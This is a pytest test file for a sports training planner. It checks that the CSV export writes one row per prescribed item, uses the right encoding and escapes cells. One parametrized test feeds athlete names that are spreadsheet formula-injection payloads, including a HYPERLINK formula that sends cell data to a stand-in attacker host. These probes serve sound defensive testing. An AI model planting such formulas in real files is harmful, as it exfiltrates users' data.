"""The CSV export: one row per prescribed item, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest
from hypothesis import HealthCheck, given, settings
from strategies import ANY_TEXT

from planner.document.demo import demo_season
from planner.document.model import Season
from planner.document.sessions import Category, SessionKind
from planner.engine.generator import generate
from planner.engine.plan import Plan
from planner.export.csv import COLUMNS, csv_bytes, csv_text, safe_cell


@pytest.fixture(scope="module")
def season() -> Season:
    return demo_season()


@pytest.fixture(scope="module")
def plans(season: Season) -> list[Plan]:
    return [generate(season, "ath-1"), generate(season, "ath-4")]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def renamed(plan: Plan, name: str) -> Plan:
    return dataclasses.replace(plan, athlete=dataclasses.replace(plan.athlete, name=name))


def test_one_row_per_item_under_the_header(plans: list[Plan]) -> None:
    rows = read(csv_text(plans))
    assert tuple(rows[0]) == COLUMNS == (
        "date", "athlete", "session", "exercise", "sets", "reps", "percent_max", "load", "unit",
        "distance_m", "contacts",
    )
    items = sum(len(s.items) for plan in plans for day in plan.days for s in day.sessions)
    assert len(rows) - 1 == items > 0
    assert all(len(row) == len(COLUMNS) for row in rows)
    dates = [row[0] for row in rows[1:]]
    assert dates == sorted(dates)
    assert {row[1] for row in rows[1:]} == {p.athlete.name for p in plans}


def test_a_lift_row_has_sets_reps_percentage_and_load_in_the_athletes_unit(plans: list[Plan]) -> None:
    noel = plans[1]
    session = next(
        s for day in noel.days for s in day.sessions
        if s.kind is SessionKind.WEIGHTS and any(i.percent_max and i.load for i in s.items)
    )
    item = next(i for i in session.items if i.percent_max and i.load)
    assert item.load is not None and item.percent_max is not None
    rows = read(csv_text([noel]))
    row = next(r for r in rows if r[0] == session.date.isoformat() and r[3] == item.name)
    assert row[1:4] == [noel.athlete.name, session.title, item.name]
    assert row[4:7] == [str(item.sets), str(item.reps), f"{item.percent_max:g}"]
    assert row[7:9] == [f"{item.load:g}", "lb"]
    assert row[9:] == ["", ""]


def test_a_plyometric_row_has_contacts_and_no_load(plans: list[Plan]) -> None:
    plan = plans[0]
    session = next(s for day in plan.days for s in day.sessions if s.kind is SessionKind.PLYOMETRICS)
    item = next(i for i in session.items if i.category is Category.PLYOMETRIC)
    row = next(r for r in read(csv_text([plan])) if r[0] == session.date.isoformat() and r[3] == item.name)
    assert row[10] == str(item.contacts)
    assert row[7:9] == ["", ""]
    assert row[9] == ("" if item.distance_m is None else f"{item.distance_m:g}")


def test_the_file_is_utf8_with_a_bom_and_crlf_line_ends(plans: list[Plan]) -> None:
    data = csv_bytes(plans)
    assert data.startswith(b"\xef\xbb\xbfdate,athlete,")
    assert data.count(b"\r\n") == data.count(b"\n")
    assert "Łucja".encode() in data


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@cmd", "=1+1", "\tTab", "\rCR"],
)
def test_a_name_that_would_run_as_a_formula_is_written_as_text(plans: list[Plan], name: str) -> None:
    rows = read(csv_text([renamed(plans[0], name)]))
    names = {row[1] for row in rows[1:]}
    assert names == {"'" + name}
    # Numbers stay numbers: the escape is only for text cells.
    assert all(row[4].isdigit() for row in rows[1:])


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+49 170", "'+49 170"),
        ("-", "'-"),
        ("@SUM(1)", "'@SUM(1)"),
        ("Anna = Bob", "Anna = Bob"),
        ("Zoë", "Zoë"),
        ("", ""),
    ],
)
def test_safe_cell(text: str, cell: str) -> None:
    assert safe_cell(text) == cell


def test_no_plans_gives_only_the_header() -> None:
    assert csv_text([]) == ",".join(COLUMNS) + "\r\n"


# ---------------------------------------------------------------------------------------------
# Any text the model can hold



def test_a_lone_surrogate_in_a_name_is_left_out_instead_of_failing_the_file(plans: list[Plan]) -> None:
    # UTF-8 cannot encode half of a pair: csv_bytes failed with a UnicodeEncodeError.
    data = csv_bytes([renamed(plans[0], "Jon\ud800as")])
    rows = read(data.decode("utf-8-sig"))
    assert {row[1] for row in rows[1:]} == {"Jonas"}


@pytest.mark.parametrize("name", ["Ann\nLee", "Ann\r\nLee", "Ann\x00Lee", 'Ann "the rocket", Lee; 400 m'])
def test_line_breaks_quotes_and_control_characters_come_back_as_written(plans: list[Plan], name: str) -> None:
    rows = read(csv_bytes([renamed(plans[0], name)]).decode("utf-8-sig"))
    assert {row[1] for row in rows[1:]} == {name}
    assert all(len(row) == len(COLUMNS) for row in rows)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(name=ANY_TEXT)
def test_any_name_at_all_is_written(plans: list[Plan], name: str) -> None:
    short = dataclasses.replace(plans[0], days=plans[0].days[:14])
    rows = read(csv_bytes([renamed(short, name)]).decode("utf-8-sig"))
    expected = safe_cell("".join(c for c in name if not "\ud800" <= c <= "\udfff"))
    assert len(rows) > 1
    assert {row[1] for row in rows[1:]} == {expected}
    assert all(len(row) == len(COLUMNS) for row in rows)
